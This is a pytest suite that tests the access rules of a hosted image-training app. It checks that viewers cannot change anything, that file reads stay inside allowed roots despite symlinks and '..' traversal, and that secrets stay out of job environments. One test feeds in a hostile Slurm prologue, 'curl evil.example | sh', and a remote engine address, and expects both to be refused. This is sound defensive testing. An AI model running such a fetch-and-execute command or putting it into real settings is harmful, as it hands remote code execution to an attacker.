"""Who may do what: a viewer changes nothing, whatever is called; hosted, no file is read that is below no root."""

import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from functools import partial
from typing import Any

import numpy as np
import pandas as pd
import pytest

from pages.ui.compose.forecasts import forecast_worker  # pages settle who asks when they are first imported
from ssrl_core import access, stores
from ssrl_core.access import Person
from ssrl_core.datasets import creation, importing, store
from ssrl_core.datasets.cells import field_lists
from ssrl_core.errors import AccessError, SpecError
from ssrl_core.runs import jobs
from ssrl_core.runs.folder import annotations
from ssrl_core.runs.folder.run_folder import RunFolder
from ssrl_core.runs.queue import ordering, processes, registry, stopping, submitting, sweeps
from ssrl_core.runs.worker.engines import settings
from ssrl_core.specs import composition
from ssrl_core.specs.run import RunSpec
from ssrl_core.specs.sweep import SweepSpec
from tests.kit import make_imageset, make_run
from tests.paging import opened

VIEWER = Person("vi@lab.example", access.VIEWER, hosted=True, by_page=True)
EDITOR = Person("ed@lab.example", access.EDITOR, hosted=True, by_page=True)
SPEC = {"dataset": "kit", "method": "simclr", "backbone": "tiny_cnn", "terms": "mnist-first-set", "epochs": 1}


def _run() -> RunFolder:
    return RunFolder(next(run["id"] for run in registry.list_runs(demo=False)))


CHANGES = {
    "queue": lambda: submitting.submit(RunSpec.from_mapping({**SPEC, "seed": 9}), start=False),
    "ask for more": lambda: submitting.ask_more(_run().id, {"read": True}),
    "sweep": lambda: sweeps.submit(SweepSpec.from_mapping({**SPEC, "seeds": [1, 2], "vary": {}}), start=False),
    "stop": lambda: stopping.stop(_run().id),
    "stop all": lambda: stopping.stop_all([_run().id]),
    "resume": lambda: stopping.resume(_run().id, start=False),
    "resume all": lambda: stopping.resume_all([_run().id], start=False),
    "delete": lambda: stopping.delete(_run().id),
    "delete all": lambda: stopping.delete_all([_run().id]),
    "delete a sweep": lambda: stopping.delete_sweep("none"),
    "pause": ordering.pause,
    "go on": ordering.unpause,
    "priority": lambda: ordering.set_priority([_run().id], 1),
    "to the front": lambda: ordering.to_the_front([_run().id]),
    "worker": processes.start_coordinator,
    "end the worker": processes.ask_to_end,
    "job": lambda: jobs.start("x", ["--version"]),
    "stop a job": lambda: jobs.stop("x"),
    "name": lambda: annotations.mark(_run(), 0, "clusters_kmeans_k3", 0, name="round"),
    "tag": lambda: annotations.tag(_run(), 0, "odd", [1]),
    "import": lambda: creation.create("new", np.zeros((4, 1, 8, 8), np.uint8), pd.DataFrame({"a": range(4)})),
    "delete images": lambda: store.delete("kit"),
    "channels": lambda: store.set_channels("kit", store.load("kit").channels),
    "composition": lambda: composition.save(composition.load("mnist-first-set").renamed("mine")),
    "engine": lambda: settings.save_settings(settings.load_settings({"slots": 2})),
}


@contextmanager
def acting_as(person: Person) -> Iterator[None]:
    """The app says that this person asks."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(access, "_ask", lambda: person)
        yield


@pytest.fixture
def stored() -> None:
    make_imageset(n=60)
    make_run()
    registry.reconcile()


def _content() -> dict[str, bytes]:
    """All files of the stores, without locks and the index."""
    roots = (stores.data_root(), stores.models_root())
    files = (path for root in roots for path in root.rglob("*") if path.is_file())
    return {str(p): p.read_bytes() for p in files if "lock" not in p.name and not p.name.startswith("runs.db")}


@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
def test_a_viewer_changes_nothing(stored, change):
    before = _content()
    with acting_as(VIEWER), pytest.raises(AccessError, match="viewer"):
        change()
    assert _content() == before


def test_an_editor_who_is_hosted_changes_what_others_see_but_not_what_a_shell_runs(stored):
    with acting_as(EDITOR):
        annotations.mark(_run(), 0, "clusters_kmeans_k3", 0, name="round")
        settings.save_settings(settings.load_settings({"slots": 2}))
        for changes in ({"slurm": {"prologue": ["curl evil.example | sh"]}}, {"engine": "tcp://evil.example:8786"}):
            with pytest.raises(AccessError, match="on the server only"):
                settings.save_settings(settings.load_settings(changes))
    assert settings.load_settings().slots == 2


def test_hosted_no_file_is_read_that_is_below_no_root(stored, tmp_path, monkeypatch):
    secret = tmp_path / "secret.yaml"
    secret.write_text("steps: [{transform: horizontal_flip}]\n")
    (stores.data_root() / "link").symlink_to(tmp_path)
    weights = {**SPEC, "backbone": {"name": "tiny_cnn", "weights": str(secret)}}
    reads = [
        lambda: composition.load(str(secret)),
        lambda: composition.load(str(stores.data_root() / "link" / "secret.yaml")),
        lambda: composition.load(str(stores.data_root() / ".." / "secret.yaml")),
        lambda: importing.glance(str(tmp_path)),
        lambda: field_lists.list_fields(str(tmp_path)),
        lambda: submitting.submit(RunSpec.from_mapping(weights), start=False),
    ]
    with acting_as(EDITOR):
        for read in reads:
            with pytest.raises(AccessError, match="below its roots"):
                read()
        (stores.models_root() / "hosting.yaml").write_text(f"version: 1\nroots: [{tmp_path}]\n")
        assert composition.load(str(secret)).steps


def test_a_table_of_fields_names_nothing_outside(stored, tmp_path):
    from PIL import Image

    Image.fromarray(np.zeros((64, 64), np.uint8)).save(tmp_path / "outside.png")
    folder = stores.data_root() / ".upload-x"
    folder.mkdir()
    (folder / "fields.csv").write_text(f"well,dna\nA1,{tmp_path / 'outside.png'}\nA2,../../outside.png\n")
    with acting_as(EDITOR):
        listed = field_lists.list_fields(str(folder / "fields.csv"))
    assert {row.files[0][0] for row in listed.fields} == {folder / "outside.png"}  # where there is none


def test_who_sees_one_run_is_told_of_one(stored):
    make_run(spec={"seed": 6})
    one = _run().id
    with acting_as(Person(role=access.VIEWER, hosted=True, by_page=True, only=one)):
        assert [run["id"] for run in registry.list_runs()] == [one]


def test_a_job_is_bound_as_who_started_it_and_knows_no_password(monkeypatch):
    monkeypatch.setenv("VIEWLOOM_PASSWORD", "correct horse")
    with acting_as(EDITOR):
        environment = processes.child_environment()
    assert environment[access.VARIABLE] == "ed@lab.example"
    assert not set(access.SECRETS) & set(environment)
    monkeypatch.setenv(access.VARIABLE, "ed@lab.example")
    assert access.current().hosted


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("sign_in: magic", "one of password, header, oidc"),
        ("sign_in: header", "trusted"),
        ("sign_in: header\nheader: {name: X-User, trusted: [everywhere]}", "addresses such as"),
        ("root: [/]", "of editors"),
        ("- 1", "a mapping"),
        ("version: 9", "at most 1"),
        ("roots: [1]", "a list of texts"),
    ],
)
def test_settings_that_are_none_are_refused(text, said):
    (stores.models_root() / "hosting.yaml").write_text(text)
    with pytest.raises(SpecError, match=said):
        access.hosting()


def test_others_reach_the_app_only_where_they_sign_in(monkeypatch):
    assert access.why_not_for_others("127.0.0.1") == "" == access.why_not_for_others("localhost")
    assert "sign in" in access.why_not_for_others("0.0.0.0")
    monkeypatch.setenv("VIEWLOOM_HOSTS", "lab.example")  # a proxy stands before it
    assert "sign in" in access.why_not_for_others("127.0.0.1")
    monkeypatch.setenv("VIEWLOOM_PASSWORD", "short")
    assert "8 characters" in access.why_not_for_others("0.0.0.0")
    monkeypatch.setenv("VIEWLOOM_PASSWORD", "correct horse")
    assert access.why_not_for_others("0.0.0.0") == ""
    monkeypatch.setenv("VIEWLOOM_VIEWER_PASSWORD", "correct horse")
    assert "another one" in access.why_not_for_others("0.0.0.0")


PAGES = {
    "app.py": {},
    "pages/1_Data.py": {"dataset": "kit"},
    "pages/2_Compose.py": {"dataset": "kit", "composition": "mine", "images": "4"},
    "pages/3_Train.py": {"run": "RUN"},
    "pages/4_Clusters.py": {"run": "RUN", "k": "3", "sel": "1-40"},
    "pages/5_Classes.py": {},
    "pages/6_Compare.py": {"a": "RUN", "b": "RUN"},
    "pages/7_Paper.py": {},
    "pages/8_Show.py": {"run": "RUN"},
    "pages/9_Screen.py": {"run": "RUN"},
}


def _let_others_on(callback: Any, refused: list[AccessError], *args: Any, **named: Any) -> None:
    """Else no callback is called after one that was refused."""
    try:
        callback(*args, **named)
    except AccessError as error:
        refused.append(error)


def until_quiet() -> None:
    """What Compose works on behind a page, which measures the image set's channels once, comes to its end."""
    end = time.monotonic() + 60
    while forecast_worker().busy and time.monotonic() < end:
        time.sleep(0.02)


@pytest.mark.parametrize("page", PAGES)
def test_what_a_viewer_presses_changes_nothing_that_others_see(stored, page, monkeypatch):
    """Every button and switch that an editor is shown, in one message of a viewer: all that they call is called."""
    composition.save(composition.load("mnist-first-set").renamed("mine"))
    submitting.submit(RunSpec.from_mapping({**SPEC, "seed": 9, "batch_size": 8}), start=False)
    person, refused = [EDITOR], []
    monkeypatch.setattr(access, "_ask", lambda: person[0])
    test = opened(page, {key: value.replace("RUN", _run().id) for key, value in PAGES[page].items()})
    known = test.session_state._state._state._new_widget_state.widget_metadata
    for name, widget in known.items():
        if widget.callback is not None:
            known[name] = replace(widget, callback=partial(_let_others_on, widget.callback, refused))
    states = test._tree.get_widget_states()
    by_id = {state.id: state for state in states.widgets}
    for kind, field in (("button", "trigger_value"), ("toggle", "bool_value"), ("checkbox", "bool_value")):
        for widget in test.get(kind):
            state = by_id.get(widget.id) or states.widgets.add(id=widget.id)
            setattr(state, field, kind == "button" or not widget.value)
    until_quiet()
    person[0], before = VIEWER, _content()
    test._run(states)
    assert not test.exception
    assert _content() == before
    if page in ("pages/2_Compose.py", "pages/4_Clusters.py"):
        assert refused  # it was a viewer who pressed
